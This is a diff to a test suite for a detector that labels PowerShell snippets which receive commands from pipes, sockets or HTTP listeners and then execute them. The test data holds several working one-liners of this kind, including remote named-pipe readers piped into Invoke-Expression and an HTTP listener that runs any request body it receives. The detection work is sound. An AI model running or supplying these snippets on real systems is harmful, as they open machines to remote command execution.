@@ -35,7 +35,9 @@ describe('text that comes from elsewhere and is run', () => {
   })
 
   it.each(runs)('makes a pipe one that commands come through: %s', (text) => {
-    expect(told(pipe + text, 'powershell')).toContain('pipe_commands \\upd')
+    expect(told(pipe + text, 'powershell')).toContain(
+      'pipe_commands \\upd on srv1',
+    )
   })
 
   it.each(keeps)('is told only where it is run: %s', (text) => {
@@ -65,7 +67,7 @@ describe('text that comes from elsewhere and is run', () => {
     ],
     [
       `$k=[Net.Sockets.Socket]::new([Net.Sockets.AddressFamily]::Unix,1,0);$k.Connect([Net.Sockets.UnixDomainSocketEndPoint]::new('/tmp/x.sock'));$s=[Net.Sockets.NetworkStream]::new($k);`,
-      'socket_commands /tmp/x.sock',
+      'network_shell /tmp/x.sock',
     ],
   ])('comes from whatever is opened: %s', (opening, action) => {
     expect(told(opening + runs[2], 'powershell')).toContain(action)
@@ -74,7 +76,7 @@ describe('text that comes from elsewhere and is run', () => {
   it.each([
     [
       '$p=New-Object IO.Pipes.NamedPipeClientStream("fs1","jobs","In");$p.Connect();$j=(New-Object IO.StreamReader($p)).ReadToEnd()|ConvertFrom-Json;Start-Process $j.exe -ArgumentList $j.args',
-      'pipe_commands \\jobs',
+      'pipe_commands \\jobs on fs1',
     ],
     [
       'Get-Content \\\\.\\pipe\\jobs | Invoke-Expression',
@@ -82,7 +84,7 @@ describe('text that comes from elsewhere and is run', () => {
     ],
     [
       '$r=[IO.StreamReader]::new([IO.File]::Open("\\\\srv1\\pipe\\jobs","Open","Read"));iex $r.ReadLine()',
-      'pipe_commands \\jobs',
+      'pipe_commands \\jobs on srv1',
     ],
     [
       '$l=[Net.HttpListener]::new();$l.Prefixes.Add("http://+:8080/");$l.Start();$x=$l.GetContext();iex (New-Object IO.StreamReader($x.Request.InputStream)).ReadToEnd()',
